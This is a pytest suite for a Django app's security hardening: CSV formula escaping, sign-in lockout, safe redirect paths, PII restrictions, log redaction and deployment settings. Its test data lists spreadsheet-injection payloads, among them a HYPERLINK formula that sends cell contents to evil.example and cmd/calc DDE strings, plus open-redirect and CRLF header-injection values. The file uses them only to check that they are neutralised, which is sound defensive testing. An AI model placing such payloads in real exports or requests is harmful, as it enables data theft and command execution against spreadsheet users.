"""Hardening (issue 10, "The rest"): spreadsheet-safe CSV exports, sign-in lockout, same-site
`next`, the restricted-PII flag, quiet 403 logs, deployment settings, the access log."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import os
import secrets
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from unittest import mock

import pytest
from axes.models import AccessAttempt
from cryptography.fernet import Fernet
from django.contrib.auth import authenticate
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.models import Role, User
from config import csvsafe
from config.log_filters import ClientErrorWithoutTraceback
from customers.models import ImportJob
from customers.services import import_job_run
from customers.tasks import import_job_run_task
from segments.services import segment_create
from tests.factories import CustomerFactory, UserFactory
from tests.segments.conftest import attr, one_section

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "correct horse battery"  # UserFactory's

# Cells a spreadsheet would run, and what a safe export must hold instead (OWASP: a leading
# single quote makes the cell text).
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
HARMLESS = ["a=b", "O'Brien", "ann@example.com", "1+1", ""]


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body, newline="")))


# ------------------------------------------------------------------ CSV exports


def test_the_csv_writer_quotes_every_formula_trigger_and_leaves_other_cells_alone():
    out = io.StringIO()
    writer = csvsafe.writer(out)
    writer.writerow([*HOSTILE, *HARMLESS, 42, None])
    writer.writerows([["=1"], ["ok"]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == [*HOSTILE.values(), *HARMLESS, "42", ""]
    assert rows[1:] == [["'=1"], ["ok"]]


@pytest.mark.django_db
def test_segment_members_csv_neutralizes_formulas_for_every_reader(make_client):
    hostile = list(HOSTILE)
    CustomerFactory(
        customer_id=hostile[2],
        given_name=hostile[0],
        surname=hostile[1],
        email=hostile[3],
        phone=hostile[4],
        state="CA",
    )
    CustomerFactory(customer_id="C-plain", given_name="Ann", email="ann@example.com", state="CA")
    full = make_client(Role.VIEWER)
    segment = segment_create(
        user=make_client(Role.MARKETER).user,
        name="Hostile",
        definition=one_section(attr("state", "is", "CA")),
    )
    response = full.get(reverse("segments:members_csv", args=[segment.pk]))
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0] == ["customer_id", "given_name", "surname", "email", "phone"]
    by_id = {row[0]: row for row in rows[1:]}
    expected = [HOSTILE[hostile[n]] for n in (2, 0, 1, 3, 4)]
    assert by_id[HOSTILE[hostile[2]]] == expected
    assert by_id["C-plain"][1] == "Ann" and by_id["C-plain"][3] == "ann@example.com"
    restricted = make_client(Role.VIEWER, restricted_pii=True)
    rows = read_csv(restricted.get(reverse("segments:members_csv", args=[segment.pk])))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(csvsafe.FORMULA_TRIGGERS), row


@pytest.mark.django_db
def test_the_import_error_report_neutralizes_formulas_on_disk_and_when_served(
    operator_client, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path / "media"
    # The import strips cells, so the values that start with a tab or CR are left out.
    hostile = [value for value in HOSTILE if not value[0].isspace()]
    # country must be two letters and birthdate a date: each hostile value is a bad cell.
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["customer_id", "country", "birthdate"])
    writer.writerows([f"C{n}", value, ""] for n, value in enumerate(hostile))
    writer.writerow(["C9", "US", "=1+1"])
    content = out.getvalue().encode()
    with mock.patch.object(import_job_run_task, "delay"):
        operator_client.post(
            reverse("customers:import_upload"),
            {"kind": "customers", "file": SimpleUploadedFile("x.csv", content, "text/csv")},
        )
    job = import_job_run(job_id=ImportJob.objects.get().pk)
    assert job is not None and job.error_rows == len(hostile) + 1
    on_disk = list(csv.reader((settings.MEDIA_ROOT / job.error_report_path).open(newline="")))
    served = read_csv(operator_client.get(reverse("customers:import_errors", args=[job.pk])))
    for rows in (on_disk, served):
        assert rows[0] == ["row", "column", "value", "reason"]
        assert [row[2] for row in rows[1:]] == [HOSTILE[v] for v in hostile] + ["'=1+1"]


# ------------------------------------------------------------------ sign-in lockout


def sign_in(client: Client, username: str, password: str, address: str = "10.0.0.1"):
    return client.post(
        reverse("accounts:login"),
        {"username": username, "password": password},
        REMOTE_ADDR=address,
    )


@pytest.mark.django_db
def test_wrong_passwords_lock_the_username_on_that_address_with_a_clear_page(settings):
    settings.AXES_FAILURE_LIMIT = 3
    user = UserFactory(username="maria")
    client = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        response = sign_in(client, "maria", "wrong")
        assert response.status_code == 200 and "_auth_user_id" not in client.session
    locked = sign_in(client, "maria", "wrong")
    assert locked.status_code == 429
    page = locked.content.decode()
    minutes = int(settings.AXES_COOLOFF_TIME.total_seconds() // 60)
    assert "Too many sign-in attempts" in page and f"for {minutes} minute" in page
    assert "maria" not in page  # the page does not repeat what was typed
    # Locked: even the right password does not sign in.
    again = sign_in(client, "maria", PASSWORD)
    assert again.status_code == 429 and "_auth_user_id" not in client.session
    # The same username from another address is not locked (no lockout by a stranger).
    other = Client()
    assert sign_in(other, "maria", PASSWORD, address="10.0.0.2").status_code == 302
    assert other.session["_auth_user_id"] == str(user.pk)


@pytest.mark.django_db
def test_behind_a_proxy_each_client_address_is_throttled_on_its_own(settings):
    settings.AXES_FAILURE_LIMIT = 2
    settings.TRUSTED_PROXIES = 1
    UserFactory(username="maria")

    def via_proxy(forwarded_for: str, password: str):
        return Client().post(
            reverse("accounts:login"),
            {"username": "maria", "password": password},
            REMOTE_ADDR="10.0.0.254",  # the proxy, the same for everyone
            HTTP_X_FORWARDED_FOR=forwarded_for,
        )

    # The attacker forges a different left-most address each time: the proxy's entry counts.
    for forged in ("1.1.1.1", "2.2.2.2"):
        via_proxy(f"{forged}, 203.0.113.9", "wrong")
    assert via_proxy("3.3.3.3, 203.0.113.9", PASSWORD).status_code == 429
    assert via_proxy("198.51.100.7", PASSWORD).status_code == 302  # a colleague elsewhere


@pytest.mark.django_db
def test_the_lockout_ends_after_the_cool_off(settings):
    settings.AXES_FAILURE_LIMIT = 2
    UserFactory(username="maria")
    client = Client()
    for _ in range(2):
        sign_in(client, "maria", "wrong")
    assert sign_in(client, "maria", PASSWORD).status_code == 429
    past = settings.AXES_COOLOFF_TIME + dt.timedelta(seconds=1)
    for attempt in AccessAttempt.objects.all():
        AccessAttempt.objects.filter(pk=attempt.pk).update(attempt_time=attempt.attempt_time - past)
    assert sign_in(client, "maria", PASSWORD).status_code == 302


@pytest.mark.django_db
def test_a_successful_sign_in_starts_the_count_again(settings):
    settings.AXES_FAILURE_LIMIT = 3
    UserFactory(username="maria")
    for _ in range(2):
        sign_in(Client(), "maria", "wrong")
    assert sign_in(Client(), "maria", PASSWORD).status_code == 302
    for _ in range(2):
        assert sign_in(Client(), "maria", "wrong").status_code == 200
    assert sign_in(Client(), "maria", PASSWORD).status_code == 302


@pytest.mark.django_db
def test_test_client_login_force_login_and_plain_authenticate_still_work():
    user = UserFactory(username="maria")
    client = Client()
    assert client.login(username="maria", password=PASSWORD)
    assert client.get(reverse("home")).status_code == 200
    other = Client()
    other.force_login(user)
    assert other.get(reverse("home")).status_code == 200
    assert authenticate(username="maria", password=PASSWORD) == user
    assert authenticate(username="maria", password="wrong") is None


def run_settings(env: dict[str, str], code: str) -> subprocess.CompletedProcess:
    base = {"PATH": os.environ.get("PATH", ""), "DJANGO_SETTINGS_MODULE": "config.settings"}
    return subprocess.run(
        [sys.executable, "-c", f"import django; django.setup(); {code}"],
        cwd=ROOT,
        env={**base, **env},
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_lockout_limit_and_cool_off_come_from_the_environment(tmp_path):
    env = {"DEBUG": "true", "VAR_DIR": str(tmp_path)}
    code = "from django.conf import settings as s; print(s.AXES_FAILURE_LIMIT, s.AXES_COOLOFF_TIME)"
    done = run_settings({**env, "LOGIN_FAILURE_LIMIT": "7", "LOGIN_LOCKOUT_MINUTES": "90"}, code)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["7", "1:30:00"]
    bad = run_settings({**env, "LOGIN_FAILURE_LIMIT": "0"}, code)
    assert bad.returncode != 0 and "LOGIN_FAILURE_LIMIT must be at least 1" in bad.stderr


# ------------------------------------------------------------------ next= on segment actions


@pytest.mark.django_db
@pytest.mark.parametrize(
    "candidate",
    [
        "https://evil.example/phish",
        "//evil.example/phish",
        "/\\evil.example",
        "\\\\evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        "http:/evil.example",
        "/segments/\r\nSet-Cookie: x=1",
        "segments/",
        "",
    ],
)
def test_segment_actions_follow_only_same_site_paths(make_client, candidate):
    client = make_client(Role.MARKETER)
    segment = segment_create(
        user=client.user, name="Mine", definition=one_section(attr("state", "is", "CA"))
    )
    url = reverse("segments:action", args=[segment.pk, "rename"])
    response = client.post(url, {"name": "Renamed", "next": candidate})
    assert response.status_code == 302
    assert response["Location"] == reverse("segments:detail", args=[segment.pk])
    htmx = client.post(url, {"name": "Again", "next": candidate}, HTTP_HX_REQUEST="true")
    assert htmx["HX-Redirect"] == reverse("segments:detail", args=[segment.pk])


@pytest.mark.django_db
def test_a_same_site_next_path_is_followed(make_client):
    client = make_client(Role.MARKETER)
    segment = segment_create(
        user=client.user, name="Mine", definition=one_section(attr("state", "is", "CA"))
    )
    back = reverse("segments:history", args=[segment.pk]) + "?tab=1"
    response = client.post(
        reverse("segments:action", args=[segment.pk, "rename"]), {"name": "R", "next": back}
    )
    assert response.status_code == 302 and response["Location"] == back


# ------------------------------------------------------------------ restricted PII flag


@pytest.mark.django_db
def test_an_admin_cannot_lift_their_own_pii_restriction(make_client):
    admin = make_client(Role.ADMIN, restricted_pii=True)
    url = reverse("accounts:user_edit", args=[admin.user.pk])
    response = admin.post(url, {"role": "admin", "is_active": "on"})  # box left unticked
    assert response.status_code in (200, 400)
    assert "cannot lift your own restricted-PII access" in response.content.decode()
    assert User.objects.get(pk=admin.user.pk).restricted_pii is True
    # Another admin can, and anyone may restrict themselves.
    other = make_client(Role.ADMIN)
    response = other.post(url, {"role": "admin", "is_active": "on"})
    assert response.status_code == 302
    assert User.objects.get(pk=admin.user.pk).restricted_pii is False
    own = reverse("accounts:user_edit", args=[other.user.pk])
    response = other.post(own, {"role": "admin", "restricted_pii": "on", "is_active": "on"})
    assert response.status_code == 302
    assert User.objects.get(pk=other.user.pk).restricted_pii is True


@pytest.mark.django_db
def test_the_django_admin_shows_ones_own_pii_restriction_read_only():
    user = UserFactory(
        username="root", role=Role.ADMIN, restricted_pii=True, is_staff=True, is_superuser=True
    )
    client = Client()
    client.force_login(user)
    url = reverse("admin:accounts_user_change", args=[user.pk])
    page = client.get(url).content.decode()
    assert 'name="restricted_pii"' not in page
    form = {
        "username": "root",
        "role": "admin",
        "is_active": "on",
        "is_staff": "on",
        "is_superuser": "on",
        "date_joined_0": "2026-01-01",
        "date_joined_1": "00:00:00",
    }
    response = client.post(url, form)
    assert response.status_code == 302
    assert User.objects.get(pk=user.pk).restricted_pii is True


# ------------------------------------------------------------------ logs


def console_handler() -> logging.Handler:
    """The handler settings.LOGGING puts on the root logger."""
    for handler in logging.getLogger().handlers:
        if any(isinstance(f, ClientErrorWithoutTraceback) for f in handler.filters):
            return handler
    raise AssertionError("settings.LOGGING's console handler is not installed")


@pytest.fixture
def console():
    handler = console_handler()
    assert isinstance(handler, logging.StreamHandler)
    buffer = io.StringIO()
    previous = handler.setStream(buffer)
    try:
        yield buffer
    finally:
        handler.setStream(previous)


@pytest.mark.django_db
def test_a_403_is_logged_as_one_line_without_a_traceback(make_client, console):
    viewer = make_client(Role.VIEWER)
    response = viewer.get(reverse("destinations:connect"))
    assert response.status_code == 403
    log = console.getvalue()
    assert "Forbidden (Permission denied): /destinations/connect/" in log
    assert "Traceback" not in log and "PermissionDenied" not in log


def test_a_server_error_keeps_its_traceback(console):
    logger = logging.getLogger("django.request")
    try:
        raise RuntimeError("boom")
    except RuntimeError:
        logger.error("Internal Server Error: /x/", exc_info=True, extra={"status_code": 500})
    log = console.getvalue()
    assert "Internal Server Error: /x/" in log and "Traceback" in log and "boom" in log


def test_the_development_server_log_has_no_query_strings(console):
    line = "GET /destinations/tiktok/callback/?auth_code=SECRETCODE&state=SECRETSTATE HTTP/1.1"
    logging.getLogger("django.server").info('"%s" %s %s', line, "302", "0")
    log = console.getvalue()
    assert '"GET /destinations/tiktok/callback/ HTTP/1.1" 302 0' in log
    assert "SECRET" not in log


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.mark.slow
def test_gunicorns_access_log_drops_the_oauth_code_and_state(tmp_path):
    """The real gunicorn with the project's gunicorn.conf.py, as the Procfile runs it."""
    port = free_port()
    log_path = tmp_path / "gunicorn.log"
    env = {"PATH": os.environ.get("PATH", ""), "DEBUG": "true", "VAR_DIR": str(tmp_path)}
    gunicorn = Path(sys.executable).with_name("gunicorn")
    with log_path.open("w") as log:
        process = subprocess.Popen(
            [str(gunicorn), "config.wsgi", "--config", "gunicorn.conf.py"]
            + ["--bind", f"127.0.0.1:{port}", "--workers", "1"],
            cwd=ROOT,
            env=env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    try:
        url = f"http://127.0.0.1:{port}/destinations/tiktok/callback/?code=SECRETCODE&state=SECRETSTATE"
        opener = urllib.request.build_opener(NoRedirect())
        deadline = time.monotonic() + 60
        while True:
            try:
                response = opener.open(url, timeout=5)
                break
            except urllib.error.HTTPError as exc:  # the 302, not followed
                response = exc
                break
            except OSError:
                assert process.poll() is None, log_path.read_text()
                assert time.monotonic() < deadline, log_path.read_text()
                time.sleep(0.3)
        assert response.status == 302
        assert "SECRET" not in response.headers["Location"]
        deadline = time.monotonic() + 10
        while "/destinations/tiktok/callback/" not in log_path.read_text():
            assert time.monotonic() < deadline, log_path.read_text()
            time.sleep(0.1)
    finally:
        process.terminate()
        process.wait(timeout=30)
    log = log_path.read_text()
    assert '"GET /destinations/tiktok/callback/ HTTP/1.1" 302' in log
    assert "SECRET" not in log


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


# ------------------------------------------------------------------ deployment settings


def production_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {
        "DEBUG": "false",
        "SECRET_KEY": secrets.token_urlsafe(50),
        "FIELD_ENCRYPTION_KEYS": Fernet.generate_key().decode(),
        "ALLOWED_HOSTS": "audiences.example.com",
        "VAR_DIR": str(tmp_path),
        "SECURE_PROXY_SSL_HEADER": "X-Forwarded-Proto",
        "SECURE_SSL_REDIRECT": "true",
        "SECURE_HSTS_SECONDS": "31536000",
        "SECURE_HSTS_INCLUDE_SUBDOMAINS": "true",
        "SECURE_HSTS_PRELOAD": "true",
    }
    return {"PATH": os.environ.get("PATH", ""), **env, **extra}


def check_deploy(env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.slow
def test_check_deploy_is_clean_with_production_settings(tmp_path):
    done = check_deploy(production_env(tmp_path))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "System check identified no issues" in done.stdout


@pytest.mark.slow
def test_check_deploy_names_what_a_production_env_leaves_out(tmp_path):
    env = production_env(tmp_path)
    del env["SECURE_SSL_REDIRECT"], env["SECURE_HSTS_SECONDS"]
    done = check_deploy(env)
    assert done.returncode != 0
    assert "security.W004" in done.stderr and "security.W008" in done.stderr


def test_production_settings_are_read_from_the_environment(tmp_path):
    code = (
        "from django.conf import settings as s; "
        "print(s.SECURE_PROXY_SSL_HEADER, s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS, "
        "s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.X_FRAME_OPTIONS, "
        "s.SECURE_REFERRER_POLICY, s.DATABASES['default']['CONN_HEALTH_CHECKS'], sep='|')"
    )
    done = run_settings(production_env(tmp_path, X_FRAME_OPTIONS="SAMEORIGIN"), code)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().split("|") == [
        "('HTTP_X_FORWARDED_PROTO', 'https')",
        "True",
        "31536000",
        "True",
        "True",
        "SAMEORIGIN",
        "same-origin",
        "True",
    ]
    for name, value in [
        ("SECURE_PROXY_SSL_HEADER", "X-Forwarded-Proto: https"),
        ("X_FRAME_OPTIONS", "ALLOW"),
        ("SECURE_HSTS_SECONDS", "-1"),
        ("TIKTOK_REDIRECT_URI", "http://audiences.example.com/destinations/tiktok/callback/"),
    ]:
        bad = run_settings(production_env(tmp_path, **{name: value}), code)
        assert bad.returncode != 0 and name in bad.stderr, name
